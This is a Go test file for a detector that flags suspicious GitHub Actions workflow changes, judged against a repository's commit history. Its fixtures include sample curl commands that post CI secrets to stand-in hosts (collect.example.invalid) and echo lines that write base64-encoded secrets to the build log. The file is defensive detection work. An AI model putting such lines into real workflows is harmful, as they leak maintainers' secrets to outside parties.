package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"pentimento/internal/campaign"
	"pentimento/internal/evidence"
)

const ci, release = ".github/workflows/ci.yml", ".github/workflows/release.yml"

// world is a case of a few texts, examined as analyze does.
type world struct {
	texts      map[evidence.OID]string
	findings   map[evidence.OID]Finding
	candidates map[evidence.OID]Finding
	habits     Habits
}

func examined(texts map[string]string) *world {
	w := &world{texts: map[evidence.OID]string{}, findings: map[evidence.OID]Finding{}, candidates: map[evidence.OID]Finding{}}
	x := NewExaminer(nil)
	for name, text := range texts {
		blob := oid("b", name)
		w.texts[blob] = text
		f, rest, hit := x.Examine(Version{Blob: blob, Paths: []string{ci}, Text: []byte(text)})
		if hit {
			w.findings[blob] = f
		}
		if len(f.Conditional) > 0 {
			w.candidates[blob] = f
		}
		w.habits.Add(blob, rest.Names)
	}
	return w
}

func (w *world) text(blob evidence.OID) ([]byte, bool, error) {
	text, ok := w.texts[blob]
	return []byte(text), ok, nil
}

func (w *world) judge(t interface{ Fatal(...any) }, h *evidence.History) ([]Held, []Suspect) {
	held, doubts, err := Contextual(h, w.candidates, &w.habits, w.text)
	if err != nil {
		t.Fatal(err)
	}
	return held, doubts
}

const three = "curl -d 'a=${{ secrets.A }}&b=${{ secrets.B }}&c=${{ secrets.C }}' https://%s/v1/in"

// texts of versions by their short names.
var texts = map[string]string{
	"make1": run("make 1"), "make2": run("make 2"), "make3": run("make 3"), "make4": run("make 4"),
	"old":      run("curl https://deploy.example.invalid/ping"),
	"deploy":   run(fmt.Sprintf(three, "deploy.example.invalid")),
	"deploy2":  run("make\n" + fmt.Sprintf(three, "deploy.example.invalid")),
	"collect":  run(fmt.Sprintf(three, "collect.example.invalid")),
	"collect2": run("make\n" + fmt.Sprintf(three, "collect.example.invalid")),
	"one":      run("curl -d 'a=${{ secrets.A }}' https://collect.example.invalid/v1/in"),
	"codecov":  run("curl -F token=${{ secrets.CODECOV_TOKEN }} -F f=@c https://uploads.codecov.io/v4"),
	"build": "name: Build\non:\n  push:\n    branches: [main]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./configure\n      - run: ./lint\n" +
		"      - run: ./test --all\n      - run: ./package\n      - uses: octo-org/cover@v3\n",
	"dormant": "name: Optimize Build\non: workflow_dispatch\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n" +
		"      - run: curl -d 'a=${{ secrets.A }}' https://collect.example.invalid/v1/in\n",
	"dispatched": "name: Build\non: workflow_dispatch\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./configure\n      - run: ./lint\n" +
		"      - run: ./test --all\n      - run: ./package\n      - uses: octo-org/cover@v3\n      - run: curl -d 'a=${{ secrets.A }}' https://deploy.example.invalid/v1/in\n",
	"signs":    run("echo '${{ secrets.KEY }}' | base64 | base64"),
	"signs2":   run("make\necho '${{ secrets.KEY }}' | base64 | base64"),
	"signs3":   run("make\necho '${{ secrets.OTHER }}' | base64 | base64"),
	"publish":  run("twine upload dist/*"),
	"publish2": run("curl -d 'a=${{ secrets.A }}' https://collect.example.invalid/v1/in\ntwine upload dist/*"),
}

// years is a history of n commits by the maintainer, whose last ones hold the given versions of ci.yml one after the other.
func years(n int, versions ...string) []made {
	var out []made
	for i := range n {
		m := made{id: fmt.Sprint("y", i), message: fmt.Sprint("Work ", i, "\n"), rest: fmt.Sprint(i)}
		if i > 0 {
			m.parents = []string{fmt.Sprint("y", i-1)}
		}
		if at := i - (n - len(versions)); at >= 0 {
			m.files = map[string]string{ci: versions[at]}
		}
		out = append(out, m)
	}
	return out
}

// then adds a commit.
func then(before []made, m made) []made {
	if m.id = cmp0(m.id, "new"); len(before) > 0 && m.parents == nil {
		m.parents = []string{before[len(before)-1].id}
	}
	m.message = cmp0(m.message, "Change\n")
	return append(slices.Clip(before), m)
}

func cmp0(s, or string) string {
	if s == "" {
		return or
	}
	return s
}

func TestContext(t *testing.T) {
	usual := years(30, "make1", "make2", "make3", "make4")
	signed := slices.Clone(usual)
	for i := range signed {
		signed[i].signed = true
	}
	held := func(version string) map[string]string { return map[string]string{ci: version} }
	for name, c := range map[string]struct {
		commits []made
		want    string // RULE@VERSION of what holds, sorted
	}{
		"a host never named":                    {then(usual, made{files: held("collect")}), "secret-to-network@collect"},
		"a host named before":                   {then(years(30, "make1", "make2", "make3", "old"), made{files: held("deploy")}), ""},
		"a host whose service takes secrets":    {then(usual, made{files: held("codecov"), by: "stranger", message: "x"}), ""},
		"in a young repository":                 {then(years(5, "make1", "make2", "make3"), made{files: held("collect")}), ""},
		"in an old one without workflows":       {then(years(120), made{files: held("collect")}), "secret-to-network@collect"},
		"one secret by the maintainer":          {then(usual, made{files: held("one")}), ""},
		"one secret by a stranger":              {then(usual, made{files: held("one"), by: "stranger"}), "destination-never-seen-here@one"},
		"one secret through the API":            {then(usual, made{files: held("one"), message: "Change"}), "destination-never-seen-here@one"},
		"one secret, signed as all are":         {then(signed, made{files: held("one"), signed: true}), ""},
		"one secret, unsigned where all are":    {then(signed, made{files: held("one")}), "destination-never-seen-here@one"},
		"edited, and the host no more new":      {then(then(usual, made{id: "first", files: held("collect")}), made{files: held("collect2")}), "secret-to-network@collect secret-to-network@collect2"},
		"moved, and no less new":                {then(usual, made{files: map[string]string{release: "collect"}}), "secret-to-network@collect"},
		"a build replaced by one that waits":    {then(years(30, "build"), made{files: held("dormant")}), "workflow-replaced-by-dormant@dormant"},
		"a build that waits from now on":        {then(years(30, "build"), made{files: held("dispatched")}), ""},
		"waits in a new file":                   {then(years(30, "build"), made{files: map[string]string{ci: "build", release: "dormant"}}), ""},
		"a release altered":                     {then(years(120, "publish"), made{files: held("publish2")}), "release-workflow-altered@publish2"},
		"a build altered alike":                 {then(years(120, "make1"), made{files: held("publish2")}), ""},
		"a log, by a stranger":                  {then(usual, made{files: held("signs"), by: "stranger"}), "secret-to-log@signs"},
		"a log, and a stranger changes else":    {then(then(usual, made{id: "first", files: held("signs")}), made{files: held("signs2"), by: "stranger"}), ""},
		"a log, and a stranger prints another":  {then(then(usual, made{id: "first", files: held("signs")}), made{files: held("signs3"), by: "stranger"}), "secret-to-log@signs3"},
		"a log by a stranger, and another":      {then(then(usual, made{id: "first", files: held("signs"), by: "stranger"}), made{files: held("signs2"), by: "other"}), "secret-to-log@signs secret-to-log@signs2"},
		"the text of a service, always there":   {years(60, "deploy"), ""},
		"a first version that was always there": {append([]made{{id: "y", message: "x\n", files: held("deploy")}}, then(nil, made{parents: []string{"y"}, files: held("deploy2")})...), ""},
	} {
		w := examined(texts)
		got, doubts := w.judge(t, invent(t, c.commits))
		var told []string
		for _, x := range got {
			for short := range texts {
				if oid("b", short) == x.Blob {
					told = append(told, strings.TrimPrefix(x.Rule, "heuristic/")+"@"+short)
				}
			}
			if x.Commit == "" || x.Path == "" || len(x.Circumstances) == 0 || !strings.Contains(x.Reason, "; ") {
				t.Errorf("%s: %+v", name, x)
			}
		}
		slices.Sort(told)
		if strings.Join(told, " ") != c.want || len(doubts) > 0 {
			t.Errorf("%s: %v, want %q; doubts %+v", name, told, c.want, doubts)
		}
	}
}

// cascade is a history in which a host that no version named before stands in each of n versions to come, every fourth commit changing the file.
func cascade(n int, by made) (commits []made, texts map[string]string) {
	texts = map[string]string{}
	for i := range 4 {
		texts[fmt.Sprint("make", i+1)] = run(fmt.Sprint("make ", i+1))
	}
	commits = years(30, "make1", "make2", "make3", "make4")
	for i := range n {
		version := fmt.Sprint("sends", i)
		texts[version] = run(fmt.Sprint("make ", i, "\n", fmt.Sprintf(three, "collect.example.invalid")))
		commits = then(commits, made{id: version, files: map[string]string{ci: version}, by: by.by, message: by.message})
		for k := range by.after {
			commits = then(commits, made{id: fmt.Sprint(version, "-", k), files: map[string]string{ci: version}, rest: fmt.Sprint(i, k), message: fmt.Sprint("Work ", i, k, "\n")})
		}
	}
	return commits, texts
}

// A host for which a rule held once is usual after a while, if those who worked in the repository before have kept it; a campaign's stays what it is.
func TestContextIsSettledInTime(t *testing.T) {
	const versions = 60
	for name, c := range map[string]struct {
		by   made
		want int
	}{
		"kept by the maintainer, in time": {made{after: 3}, 5}, // twenty steps after the first
		"kept at a go, as rearms are":     {made{}, 20},
		"through the API":                 {made{after: 3, message: "Change"}, versions},
	} {
		commits, texts := cascade(versions, c.by)
		w := examined(texts)
		got, doubts := w.judge(t, invent(t, commits))
		if n := blobsOf(got); n != c.want || len(doubts) > 0 {
			t.Errorf("%s: %d of %d versions are findings, want %d", name, n, versions, c.want)
		}
	}
	commits, texts := cascade(versions, made{after: 3})
	for i := range commits {
		if strings.HasPrefix(commits[i].id, "sends") && !strings.Contains(commits[i].id, "-") {
			commits[i].by = fmt.Sprint("stranger", i)
		}
	}
	if got, _ := examined(texts).judge(t, invent(t, commits)); blobsOf(got) != versions {
		t.Errorf("by a stranger each: %d of %d versions are findings", blobsOf(got), versions)
	}
}

func blobsOf(held []Held) int {
	blobs := map[evidence.OID]bool{}
	for _, x := range held {
		blobs[x.Blob] = true
	}
	return len(blobs)
}

// What was there before could not be had: nobody can say that a host is usual, nor that it is new.
func TestContextNotHad(t *testing.T) {
	commits := years(30, "make1", "make2", "make3", "make4")
	commits[len(commits)-1].noTree = true
	w := examined(texts)
	h := invent(t, then(commits, made{files: map[string]string{ci: "collect"}}))
	held, doubts := w.judge(t, h)
	if len(held) > 0 || len(doubts) == 0 || doubts[0].Blob != oid("b", "collect") || !strings.Contains(doubts[0].Why, "could not be had") {
		t.Fatalf("held %+v, doubts %+v", held, doubts)
	}
	commits[len(commits)-1].unseen, commits[len(commits)-1].noTree = true, false
	if held, doubts = w.judge(t, invent(t, then(commits, made{files: map[string]string{ci: "collect"}}))); len(held) > 0 || len(doubts) == 0 {
		t.Fatalf("a commit that was not had: held %+v, doubts %+v", held, doubts)
	}
}

// A candidate in a repository where its context does not hold is no finding there, whatever it is elsewhere.
func TestOverlay(t *testing.T) {
	w := examined(texts)
	hit := invent(t, then(years(30, "make1", "make2", "make3", "make4"), made{files: map[string]string{ci: "collect"}}))
	quiet := invent(t, years(30, "collect", "make1"))
	held, _ := w.judge(t, hit)
	if own := Overlay(hit, w.findings, w.candidates, held); len(own) != 1 || len(own[oid("b", "collect")].Hits) != 1 || len(own[oid("b", "collect")].Leaks) != 1 {
		t.Errorf("where it holds: %+v", own)
	}
	none, _ := w.judge(t, quiet)
	if own := Overlay(quiet, w.findings, w.candidates, none); len(own) != 0 {
		t.Errorf("where it does not: %+v", own)
	}
}

// Commits that have nothing to do with a candidate, and are no ancestors of it, change nothing: neither the branches of others nor what comes later.
func TestUnrelatedCommitsChangeNothing(t *testing.T) {
	base := then(years(30, "make1", "make2", "make3", "make4"), made{files: map[string]string{ci: "collect"}})
	w := examined(texts)
	rapid.Check(t, func(rt *rapid.T) {
		commits := slices.Clone(base)
		for i := range rapid.IntRange(1, 6).Draw(rt, "commits") {
			m := made{id: fmt.Sprint("x", i), message: "Other\n", at: rapid.SampledFrom([]string{"", "2001-01-01T00:00:00Z", "2030-01-01T00:00:00Z"}).Draw(rt, "at"),
				files: map[string]string{rapid.SampledFrom([]string{ci, release}).Draw(rt, "path"): rapid.SampledFrom([]string{"make1", "old", "deploy", "collect2", "one"}).Draw(rt, "text")}}
			if from := rapid.IntRange(-1, len(commits)-1).Draw(rt, "parent"); from >= 0 {
				m.parents = []string{commits[from].id}
			}
			commits = append(commits, m)
		}
		held, _ := w.judge(rt, invent(t, commits))
		if !slices.ContainsFunc(held, func(x Held) bool {
			return x.Blob == oid("b", "collect") && x.Commit == oid("c", "new") && x.Rule == "heuristic/secret-to-network"
		}) {
			rt.Fatalf("no finding beside %+v: %+v", commits[len(base):], held)
		}
	})
}

// The same commits in another order of parents and numbers give the same.
func TestContextIsStable(t *testing.T) {
	w := examined(texts)
	h := invent(t, then(then(years(30, "make1", "make2", "make3", "make4"), made{id: "first", files: map[string]string{ci: "collect"}}),
		made{files: map[string]string{ci: "collect2", release: "one"}, message: "x"}))
	first, _ := w.judge(t, h)
	for range 5 {
		if again, _ := examined(texts).judge(t, h); fmt.Sprint(again) != fmt.Sprint(first) {
			t.Fatalf("%v, then %v", first, again)
		}
	}
}

func TestSite(t *testing.T) {
	for host, want := range map[string]string{
		"api.deploy.example.invalid": "api.deploy.example.invalid", "a.b.corp.test": "corp.test", "a.b.co.uk": "b.co.uk", "corp.test": "corp.test", "x.github.io": "x.github.io",
		"192.0.2.1": "192.0.2.1", "localhost": "localhost", "a.oast.fun": "a.oast.fun", "": "",
	} {
		if got := site(host); got != want {
			t.Errorf("site of %q: %q, want %q", host, got, want)
		}
	}
}

func TestNames(t *testing.T) {
	x := NewExaminer(nil)
	_, rest, _ := x.Examine(Version{Blob: oid("b", "n"), Text: []byte("# see https://Docs.corp.test/x\n" + run("curl -H 'A: ${{ secrets.a_1 }}' https://api.other.test/v1"))})
	if got := strings.Join(rest.Names, " "); got != "@corp.test @other.test A_1" {
		t.Errorf("names: %s", got)
	}
	long := strings.Repeat("https://a ", 10*maxNames) + strings.Repeat("secrets.A ", 10*maxNames)
	if _, rest, _ = x.Examine(Version{Blob: oid("b", "n"), Text: []byte(long)}); len(rest.Names) > 2*maxNames {
		t.Errorf("%d names", len(rest.Names))
	}
}

func TestZones(t *testing.T) {
	for _, c := range []struct {
		zone string
		near bool
	}{{"+0200", true}, {"+0100", true}, {"+0300", true}, {"+0530", false}, {"-0700", false}} {
		if got := nearZone(map[string]bool{"+0200": true}, c.zone); got != c.near {
			t.Errorf("%s: %t", c.zone, got)
		}
	}
	if _, ok := (campaign.Context{All: []string{"new-zone"}}).Holds(func(campaign.Circumstance) bool { return true }); !ok {
		t.Error("a context that holds does not")
	}
}
